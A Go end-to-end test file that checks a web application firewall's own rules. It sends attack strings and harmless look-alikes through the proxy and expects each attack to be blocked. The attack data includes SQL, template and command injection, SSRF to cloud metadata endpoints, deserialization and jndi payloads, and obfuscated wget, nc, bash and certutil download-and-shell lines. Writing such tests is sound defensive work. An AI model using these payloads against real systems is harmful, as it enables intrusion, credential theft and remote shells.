package e2e

import (
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
)

// A ruleCase is an attack that one of our own rules finds, and requests like it that are ordinary.
type ruleCase struct {
	rule   int
	attack []ruleRequest
	benign []ruleRequest
}

type ruleRequest struct {
	method, path string
	header       [2]string
	kind, body   string
	host         string
}

func toPath(path string) ruleRequest   { return ruleRequest{path: path} }
func inQuery(value string) ruleRequest { return toPath("/x?q=" + url.QueryEscape(value)) }
func inHeader(name, value string) ruleRequest {
	return ruleRequest{path: "/x", header: [2]string{name, value}}
}

func jsonBody(text string) ruleRequest {
	return ruleRequest{path: "/x", kind: "application/json", body: text}
}

func formBody(name, value string) ruleRequest {
	return ruleRequest{path: "/x", kind: "application/x-www-form-urlencoded", body: name + "=" + url.QueryEscape(value)}
}

func xmlBody(text string) ruleRequest { return ruleRequest{path: "/x", kind: "text/xml", body: text} }

func partBody(head, text string) ruleRequest {
	return ruleRequest{
		path: "/x", kind: "multipart/form-data; boundary=XyZ",
		body: "--XyZ\r\nContent-Disposition: form-data; " + head + "\r\n\r\n" + text + "\r\n--XyZ--\r\n",
	}
}

// on puts requests below a path, whose route has other groups.
func on(prefix string, list ...ruleRequest) []ruleRequest {
	for i := range list {
		list[i].path = prefix + list[i].path
	}
	return list
}

// ownRuleCases has every rule of our own but 190200, of which the attacks are elsewhere, and 190100: admission takes
// such headers away before the WAF sees them.
func ownRuleCases() []ruleCase {
	const metadata = "http://169.254.169.254/latest/meta-data/"
	return []ruleCase{
		{190111, []ruleRequest{inQuery(`\' or 1=1-- -`), formBody("a", "1` or 1=1")}, []ruleRequest{formBody("a", `It\'s one or 1`), formBody("a", "`a` or `b`")}},
		{190111, []ruleRequest{inQuery("admin' #"), jsonBody(`{"a":"admin'/*"}`)}, []ruleRequest{inQuery("admin's #1")}},
		{190115, []ruleRequest{inQuery("' or count(/*)=1 or '1'='2"), formBody("a", "'] | //user/* | a['")}, []ruleRequest{inQuery("count the names")}},
		{190116, []ruleRequest{inQuery("http://127.1/"), jsonBody(`{"u":"http://0x7f.0.0.1/"}`), formBody("u", "dict://127.0.0.1:11211/stat"), inQuery("//198.51.100.7/x")}, []ruleRequest{inQuery("https://www.example.com/127.1"), inQuery("//cdn.example.com/a.js")}},
		{190117, []ruleRequest{inQuery("x%0d%0aLocation: http://e/"), formBody("to", "ann@example.com\nBcc: bob@example.com")}, []ruleRequest{formBody("to", "ann@example.com\nbob@example.com"), inQuery("Location: Berlin")}},
		{190112, []ruleRequest{
			inQuery(metadata), formBody("u", metadata), jsonBody(`{"a":{"u":"` + metadata + `"}}`), inHeader("Cookie", "u="+metadata), toPath("/proxy/169.254.169.254/latest/"),
			xmlBody("<a b=\"" + metadata + "\"/>"), inQuery("http://169.254.170.23/v1/credentials"), inQuery("http://0xa9fea9fe/"), inQuery("http://2852039166/x"), inQuery("//[fd00:ec2::254]/latest"),
			inQuery("http://[::ffff:a9fe:a9fe]/"), inQuery("http://user@169.254.169.254:80/"), inQuery("169.254.169.254"), inQuery("http:\\\\169.254.169.254\\x"), inQuery("http://0251.0376.0251.0376/"),
		}, []ruleRequest{
			inQuery("https://www.example.com/latest/meta-data"), inQuery("which address is 169.254.169.254 for?"), jsonBody(`{"ip":"169.254.10.1","link":"https://www.example.com/x"}`),
			toPath("/v/169.254.169.2540/x"), inQuery("phone 2852039166"),
		}},
		{
			190113,
			[]ruleRequest{inQuery("/latest/meta-data/iam/security-credentials/role"), toPath("/latest/dynamic/instance-identity/document"), jsonBody(`{"p":"http://x.example/computeMetadata/v1/instance"}`)},
			[]ruleRequest{toPath("/docs/latest/meta-data.html"), inQuery("latest meta-data of the file")},
		},
		{190120, on("/strict", inQuery("../db.sql"), inQuery("config/app.ini")), on("/strict", inQuery("report.pdf"), inQuery("photo.jpg"))},
		{
			190130,
			[]ruleRequest{inHeader("User-Agent", "ghauri/1.3.1 (https://github.com)"), inHeader("User-Agent", "Mozilla/5.0 dalfox")},
			[]ruleRequest{inHeader("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"), inHeader("User-Agent", "python-httpx/0.28"), inHeader("User-Agent", "Arjuna App/2")},
		},
		{
			190140,
			[]ruleRequest{inQuery("{{7*7}}"), inQuery("{{ '7' * 7 }}"), jsonBody(`{"n":"${ 7 * 7 }"}`), inQuery("#{3*9}"), inQuery("<%= 7*7 %>"), inQuery("*{3*3}")},
			[]ruleRequest{inQuery("Hello {{ user.name }}"), jsonBody(`{"template":"Total: {{ order.total }} and {{count}}"}`), inQuery("5 * 7 = 35")},
		},
		{
			190141,
			[]ruleRequest{inQuery("{% if request.application.__globals__ %}"), formBody("name", "{{cycler.__init__.__globals__.os}}"), inQuery(`{{['id']|map('system')}}`), inQuery(`{{ x | attr("a") }}`)},
			[]ruleRequest{formBody("text", "{% for item in items %}<li>{{ item }}</li>{% endfor %}"), formBody("text", "In Python, x.__class__ is the type of x.")},
		},
		{190210, []ruleRequest{partBody(`name="f"; filename="a.aspx"`, "x"), partBody(`name="f"; filename="a.php/"`, "x")}, []ruleRequest{partBody(`name="f"; filename="a.php.png"`, "x"), partBody(`name="f"; filename="a.asp.md"`, "x")}},
		{190300, []ruleRequest{{path: "/x", host: "localhost"}, {path: "/x", host: "127.0.0.1"}}, []ruleRequest{{path: "/x", host: "localhost.example.test"}}},
		{
			190310,
			[]ruleRequest{toPath("/WEB-INF/web.xml"), toPath("/app/META-INF/MANIFEST.MF"), toPath("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"), toPath("/_ignition/execute-solution"), toPath("/HNAP1/"), toPath("/jmx-console/")},
			[]ruleRequest{toPath("/docs/web-inf-explained"), toPath("/console/"), toPath("/actuator/health"), toPath("/owa/")},
		},
		{
			190320,
			[]ruleRequest{inQuery("WEB-INF/web.xml"), inQuery("../../META-INF/context.xml"), inQuery("/.dockerenv"), xmlBody("<f>WEB-INF/classes/a.class</f>")},
			[]ruleRequest{inQuery("what is WEB-INF"), inQuery("the file .DS_Store is ignored")},
		},
		{
			190330,
			[]ruleRequest{partBody(`name="f"; filename="${jndi:ldap:x}.png"`, "x"), partBody(`name="f"; filename="a.png"`+"\r\nX-A: ${${lower:j}ndi:x}", "x")},
			[]ruleRequest{partBody(`name="f"; filename="price $5.png"`, "x")},
		},
		{
			190350,
			[]ruleRequest{formBody("o", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="), inHeader("Cookie", "s=rO0ABXVyABNbTGphdmE"), inHeader("X-Token", "rO0ABXNyABFqYXZhLnV0aWw"), jsonBody(`{"o":"AAEAAAD/////AQAAAAAAAAAMAgAAAFdTeXN0"}`)},
			[]ruleRequest{formBody("o", "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ"), jsonBody(`{"o":"grO0ABXNy"}`)},
		},
		{
			190360,
			[]ruleRequest{toPath("/x?user__password__startswith=a"), toPath("/x?filter[password][contains]=a"), jsonBody(`{"where":{"resetToken":{"startsWith":"a"}}}`), toPath("/x?q[reset_password_token_start]=a")},
			[]ruleRequest{toPath("/x?name__startswith=a"), jsonBody(`{"where":{"key":{"contains":"menu."}}}`), toPath("/x?price[gte]=5"), formBody("password", "correct horse")},
		},
		{190340, []ruleRequest{inQuery("%{#context['xwork']=1}")}, []ruleRequest{inQuery("%{context}"), inQuery("colour #a=b")}},
		{190351, []ruleRequest{inQuery("!!python/object/apply:os.system ['id']"), formBody("o", "cos\nsystem\n(S'id'\ntR.")}, []ruleRequest{inQuery("!! python"), formBody("o", "gASdAAAAAAAA")}},
		{190352, []ruleRequest{jsonBody(`{"@type":"com.sun.rowset.JdbcRowSetImpl"}`)}, []ruleRequest{jsonBody(`{"@type":"Person","@class":"a.b.C"}`)}},
		{190353, []ruleRequest{{path: "/x", kind: "application/octet-stream", body: "\xac\xed\x00\x05sr"}}, []ruleRequest{{path: "/x", kind: "application/octet-stream", body: "\xac\x00\xed\x05"}}},
		{190361, []ruleRequest{inQuery("global.process.exit()"), jsonBody(`{"a":"Function('return process')()"}`)}, []ruleRequest{inQuery("a global process of change")}},
		{190370, []ruleRequest{
			partBody(`name="0"`, `{"then":"$1:__proto__:then","status":"resolved_model","reason":-1,"_response":{"_prefix":"x","_formData":{"get":"$1:constructor:constructor"}}}`),
			partBody(`name="0"`, `{"a":"$1:a:\u0063onstructor:x"}`), jsonBody(`["$1:constructor:constructor"]`),
		}, []ruleRequest{partBody(`name="0"`, `["$K1","$undefined",{"id":"$2:items:0"}]`), jsonBody(`{"status":"resolved","price":"$5"}`)}},
		{
			190400, on("/extra", toPath("/admin/"), toPath("/phpMyAdmin/index.php"), toPath("/app/administrator"), toPath("/server-status"), toPath("/sqlmanager/"), toPath("/actuator/env")),
			on("/extra", toPath("/administration-fees"), toPath("/products/management-books"), toPath("/a/b")),
		},
		{
			190500, on("/extra", toPath("/xmlrpc.php"), toPath("/wp-config.php.bak"), toPath("/wp-content/uploads/2026/11/a.php"), toPath("/wp-includes/load.php"), toPath("/wp-content/debug.log")),
			on("/extra", toPath("/wp-content/uploads/2026/11/a.jpg"), toPath("/wp-includes/js/jquery/jquery.min.js"), toPath("/wp-json/wp/v2/posts"), toPath("/wp-login.php"), toPath("/wp-cron.php")),
		},
		{190510, on("/extra", toPath("/x?do-reset-wordpress=1"), toPath("/x?swp_debug=load_options")), on("/extra", toPath("/x?reset=1"))},
		{190511, on("/extra", toPath("/x?action=revslider_show_image&img=a.png"), formBody("action", "duplicator_download")), on("/extra", toPath("/x?action=heartbeat"))},
		{190520, on("/strictwp", toPath("/wp-json/wp/v2/users"), toPath("/?rest_route=/wp/v2/users")), on("/strictwp", toPath("/wp-json/wp/v2/users/me"), toPath("/wp-json/wp/v2/pages"))},
		{190521, on("/strictwp", toPath("/?author=1")), on("/strictwp", toPath("/?author=ann"))},
		{190600, on("/extra", toPath("/x?q="+strings.Repeat("ab ", 800))), on("/extra", toPath("/x?q="+strings.Repeat("a", 2000)))},
		{190610, on("/extra", inHeader("Cookie", "a="+strings.Repeat("b", 10300))), on("/extra", inHeader("Cookie", "a="+strings.Repeat("b", 9000)))},
		{190620, on("/extra", toPath("/"+strings.Repeat("a/b", 400))), on("/extra", toPath("/"+strings.Repeat("a/b", 300)))},
		{
			190700,
			[]ruleRequest{inQuery(";c'a't /etc/hosts"), inQuery("$(w\"g\"et http://e.example/x)"), formBody("h", "1.2.3.4 | n\\c 192.0.2.1 99"), jsonBody(`{"h":"x;/bin/b''ash -i"}`)},
			[]ruleRequest{inQuery(`("cat" is a word)`), formBody("t", "it's a dog; 'cat' is next"), formBody("t", `\section{Heads and tails} more`), jsonBody(`{"csv":"\"id\";\"name\"\n\"1\";\"cat\"\n"}`)},
		},
		{190710, []ruleRequest{inQuery(";c$@at /etc/hosts"), inQuery("`wh$*oami`")}, []ruleRequest{inQuery("it costs (US$5)"), formBody("t", "price a$5b")}},
		{190720, []ruleRequest{inQuery(";id"), formBody("h", "127.0.0.1|id"), inQuery("`id`")}, []ruleRequest{inQuery("name;id"), formBody("h", "the `id` column"), inQuery("user|id")}},
		{190730, []ruleRequest{toPath("/a/$(id)"), toPath("/a/%60id%60/b")}, []ruleRequest{toPath("/Products(1)/$count"), toPath("/a/$metadata")}},
		{190800, []ruleRequest{inHeader("X-Doc", "<?php system('id'); ?>"), inHeader("User-Agent", "<?=`id`?>")}, []ruleRequest{inHeader("X-Doc", "<?xml version='1.0'?>")}},
		{190900, []ruleRequest{inQuery("cmd.exe /c whoami"), formBody("a", "; net user eve pass /add"), inQuery("& certutil -urlcache -f http://e.example/x")}, []ruleRequest{inQuery("net users and gross users"), inQuery("cmd or ctrl")}},
	}
}

// TestOurOwnRules: each finds its attacks and lets pass what is ordinary, through the listener, in each version of HTTP.
func TestOurOwnRules(t *testing.T) {
	t.Parallel()
	spec := siteSpec{
		upstream: startEcho(t), top: "trusted_proxies: [127.0.0.1]",
		routes: `
  - {name: strict, match: ` + appHost + `/strict/*, to: u, require: nothing, strip_prefix: /strict, waf: {paranoia: 2, threshold: 5}}
  - {name: wordpress, match: ` + appHost + `/strictwp/*, to: u, require: nothing, waf: {paranoia: 2, groups: [wordpress]}}
  - {name: extra, match: ` + appHost + `/extra/*, to: u, require: nothing, waf: {groups: [admin-protection, wordpress, size-restrictions]}}
  - {name: plain, match: [` + appHost + `, localhost, 127.0.0.1, localhost.example.test], to: u, require: nothing}
`,
	}
	s := startOpen(t, spec)
	h1, h2 := newClient(t, s.addr, false), newClient(t, s.addr, true)
	for _, name := range []string{"X-Middleware-Subrequest", "X-Original-Url", "X-Rewrite-Url", "X-Invoke-Path", "X-Now-Route-Matches"} {
		if resp, body := fetch(t, h2, s.base+"/x", "", name, "/admin"); resp.StatusCode != http.StatusOK || strings.Contains(body, "/admin") {
			t.Errorf("%s: got %s %s, want it not to arrive", name, resp.Status, body)
		}
	}
	for _, c := range ownRuleCases() {
		for _, r := range c.attack {
			for _, way := range []string{"HTTP/1.1", "chunked", "HTTP/2"} {
				client := map[bool]*http.Client{true: h2, false: h1}[way == "HTTP/2"]
				status, id := s.play(client, r, way == "chunked")
				if rules := s.rulesOf(id); status != http.StatusForbidden || !slices.Contains(rules, c.rule) {
					t.Errorf("%s: %+v: got %d by %v, want 403 and rule %d", way, clipped(r), status, rules, c.rule)
				}
			}
		}
		for _, r := range c.benign {
			status, id := s.play(h2, r, false)
			if rules := s.rulesOf(id); status != http.StatusOK || slices.Contains(rules, c.rule) {
				t.Errorf("ordinary: %+v: got %d by %v, want 200", clipped(r), status, rules)
			}
		}
	}
}

func clipped(r ruleRequest) ruleRequest {
	r.path, r.header[1], r.body = r.path[:min(len(r.path), 200)], r.header[1][:min(len(r.header[1]), 100)], r.body[:min(len(r.body), 300)]
	return r
}

// play sends a request from an address of the Internet and returns the status and the request's id.
func (s *site) play(c *http.Client, r ruleRequest, chunked bool) (int, string) {
	s.t.Helper()
	base := s.base
	if r.host != "" {
		base = "https://" + r.host
	}
	method := r.method
	var body io.Reader
	if r.body != "" {
		method, body = http.MethodPost, strings.NewReader(r.body)
		if chunked {
			body = struct{ io.Reader }{body}
		}
	} else if method == "" {
		method = http.MethodGet
	}
	path := strings.ReplaceAll(r.path, " ", "%20")
	req, err := http.NewRequestWithContext(s.t.Context(), method, base+path, body)
	if err != nil {
		s.t.Fatal(err)
	}
	req.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0")
	req.Header.Set("Accept", "*/*")
	req.Header.Set("X-Forwarded-For", "203.0.113.9")
	if r.header[0] != "" {
		req.Header.Set(r.header[0], r.header[1])
	}
	if r.kind != "" {
		req.Header.Set("Content-Type", r.kind)
	}
	resp, _ := send(s.t, c, req)
	return resp.StatusCode, resp.Header.Get("X-Request-Id")
}

// rulesOf are the rules that matched a request.
func (s *site) rulesOf(id string) (rules []int) {
	s.t.Helper()
	waf, _ := s.eventWithID(id)["waf"].(map[string]any)
	list, _ := waf["rules"].([]any)
	for _, rule := range list {
		rules = append(rules, int(rule.(float64)))
	}
	return rules
}
